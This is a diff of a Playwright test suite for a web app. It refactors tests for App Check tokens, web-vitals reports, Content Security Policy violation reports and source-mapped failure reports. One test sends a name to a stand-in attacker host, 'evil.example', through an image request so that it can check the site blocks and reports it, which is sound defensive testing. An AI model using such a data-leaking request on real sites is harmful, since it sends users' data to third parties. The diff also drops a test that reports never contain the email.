@@ -15,8 +15,6 @@ const SITE = 'https://lively.example';
 const COLLECTOR = 'https://collector.example/in';
 const FOLDER = 'test-results/real-project';
 const PROJECT = 'demo-lively';
-/** The identifier of a build. */
-const BUILD = expect.stringMatching(/^[0-9a-f]{8}$/);
 const TOKEN = 'a-token-of-app-check';
 
 const RECAPTCHA_URL = 'https://www.google.com/recaptcha/**';
@@ -25,6 +23,7 @@ const RECAPTCHA = `window.grecaptcha = { enterprise: {
   render: (_, { callback }) => { callback(); return 0; },
   execute: async () => 'a person',
 } };`;
+const NEVER_READY = 'window.grecaptcha = { enterprise: { ready() {} } };';
 
 /** The responses of Google by a part of the URL. */
 const GOOGLE: Readonly<Record<string, object>> = {
@@ -50,7 +49,7 @@ const PROTECTED = ['accounts:signInWithPassword', 'documents:batchGet', 'complet
 
 const test = base.extend<{ reports: Report[] }>({
   baseURL: SITE,
-  expectedConsole: /ERR_FAILED|status of 400/,
+  expectedConsole: /ERR_FAILED|status of 400|Content Security Policy directive: "img-src/,
   /** What the collector has received so far. The fixture serves the collector and the site. */
   reports: [
     async ({ page }, use) => {
@@ -86,94 +85,55 @@ test.beforeAll(() => {
   });
 });
 
-test('calls have a token of App Check', async ({ page }) => {
-  await page.route(RECAPTCHA_URL, (route) => route.fulfill({ body: RECAPTCHA }));
-  expect(await tokensOfSignUp(page)).toEqual([TOKEN, TOKEN, TOKEN]);
-});
-
-test('calls have no token when App Check is blocked', async ({ page }) => {
-  await page.route(RECAPTCHA_URL, (route) => route.abort());
-  expect(await tokensOfSignUp(page)).toEqual([undefined, undefined, undefined]);
-});
-
-test('calls have no token when App Check never becomes ready', async ({ page }) => {
-  const body = 'window.grecaptcha = { enterprise: { ready() {} } };';
-  await page.route(RECAPTCHA_URL, (route) => route.fulfill({ body }));
-  expect(await tokensOfSignUp(page)).toEqual([undefined, undefined, undefined]);
-});
-
-test.describe('a public page', () => {
-  test.use({ expectedConsole: /Content Security Policy/ });
-
-  const report = { page: paths.premium, build: BUILD };
-
-  /** Opens the page, and waits for its reporter, which the site imports after the load event. */
-  const openPremium = (page: Page) => page.goto(paths.premium, { waitUntil: 'networkidle' });
-
-  test('loads no code of the account area', async ({ page }) => {
-    const requested: string[] = [];
-    page.on('request', (request) => requested.push(new URL(request.url()).pathname));
-    await openPremium(page);
-    expect(requested.filter((path) => /account|auth|firebase|react/i.test(path))).toEqual([]);
-  });
-
-  test('reports web vitals', async ({ page, reports }) => {
-    await openPremium(page);
-    // The first interaction finalizes LCP.
-    await page.keyboard.press('Shift');
-    const vital = { ...report, kind: 'vital', what: 'LCP', value: expect.any(Number) };
-    await expect.poll(() => reports).toContainEqual(vital);
-  });
-
-  test('reports violations of its policy without their URL', async ({ page, reports }) => {
-    await openPremium(page);
-    await page.evaluate(() => {
-      new Image().src = 'https://evil.example/?name=jane';
-    });
-    const violation = { ...report, kind: 'violation', what: 'img-src', code: 'other' };
-    await expect.poll(() => reports).toContainEqual(violation);
-  });
-});
-
-test.describe('the report of a failure', () => {
-  /** Fails a log-in, and waits for the report. */
-  async function failLogIn(page: Page, reports: readonly Report[]) {
-    await page.route(/googleapis\.com|google\.com/, (route) =>
-      route.fulfill({
-        status: 400,
-        // A code of Firebase that no form expects.
-        json: { error: { message: 'OPERATION_NOT_ALLOWED' } },
-      }),
+for (const [name, script, token] of [
+  ['a token of App Check', RECAPTCHA, TOKEN],
+  ['no token when App Check is blocked', undefined, undefined],
+  ['no token when App Check never becomes ready', NEVER_READY, undefined],
+] as const) {
+  test(`calls have ${name}`, async ({ page }) => {
+    await page.route(RECAPTCHA_URL, (route) =>
+      script === undefined ? route.abort() : route.fulfill({ body: script }),
     );
-    await page.goto(paths.logIn);
-    await submit(page, copy.logIn, { email: 'jane@example.com', password: 'sailing1' });
-    const failures = () => reports.filter(({ what }) => what === 'log in');
-    await expect.poll(failures).toHaveLength(1);
-    return failures()[0];
-  }
-
-  test('names the page, the build and the place in the code', async ({ page, reports }) => {
-    expect(await failLogIn(page, reports)).toMatchObject({
-      kind: 'failure',
-      page: paths.logIn,
-      build: BUILD,
-      at: expect.stringMatching(/^\/assets\/[\w-]+\.js:\d+:\d+$/),
-    });
+    expect(await tokensOfSignUp(page)).toEqual([token, token, token]);
   });
+}
 
-  test('never has the email', async ({ page, reports }) => {
-    await failLogIn(page, reports);
-    expect(JSON.stringify(reports)).not.toContain('jane');
+/** Opens the page, and waits for its reporter, which the site imports after the load event. */
+const openPremium = (page: Page) => page.goto(paths.premium, { waitUntil: 'networkidle' });
+const ofPremium = { page: paths.premium, build: expect.stringMatching(/^[0-9a-f]{8}$/) };
+
+test('a page reports web vitals', async ({ page, reports }) => {
+  await openPremium(page);
+  // The first interaction finalizes LCP.
+  await page.keyboard.press('Shift');
+  const vital = { ...ofPremium, kind: 'vital', what: 'LCP', value: expect.any(Number) };
+  await expect.poll(() => reports).toContainEqual(vital);
+});
+
+test('a page reports violations of its policy without their URL', async ({ page, reports }) => {
+  await openPremium(page);
+  await page.evaluate(() => {
+    new Image().src = 'https://evil.example/?name=jane';
   });
+  const violation = { ...ofPremium, kind: 'violation', what: 'img-src', code: 'other' };
+  await expect.poll(() => reports).toContainEqual(violation);
+});
 
-  test('leads to the source by a source map of its build', async ({ page, reports }) => {
-    const failure = await failLogIn(page, reports);
-    const [script = 'none', line, column] = failure?.at?.split(':') ?? [];
-    const map = join('test-results/source-maps', `${failure?.build}/${basename(script)}.map`);
-    const sourceMap = new SourceMap(JSON.parse(readFileSync(map, 'utf8')));
-    expect(sourceMap.findOrigin(Number(line), Number(column))).toMatchObject({
-      fileName: expect.stringMatching(/\/(src|node_modules)\/\S+\.[jt]sx?$/),
-    });
+test('the report of a failure leads to its source', async ({ page, reports }) => {
+  await page.route(/googleapis\.com|google\.com/, (route) =>
+    // A code of Firebase that no form expects.
+    route.fulfill({ status: 400, json: { error: { message: 'OPERATION_NOT_ALLOWED' } } }),
+  );
+  await page.goto(paths.logIn);
+  await submit(page, copy.logIn, { email: 'jane@example.com', password: 'sailing1' });
+  await expect.poll(() => reports.map(({ what }) => what)).toContain('log in');
+
+  const failure = reports.find(({ what }) => what === 'log in');
+  const [script = 'none', line, column] = failure?.at?.split(':') ?? [];
+  const map = join('test-results/source-maps', `${failure?.build}/${basename(script)}.map`);
+  const sourceMap = new SourceMap(JSON.parse(readFileSync(map, 'utf8')));
+  expect(sourceMap.findOrigin(Number(line), Number(column))).toMatchObject({
+    fileName: expect.stringMatching(/\/(src|node_modules)\/\S+\.[jt]sx?$/),
   });
 });
 
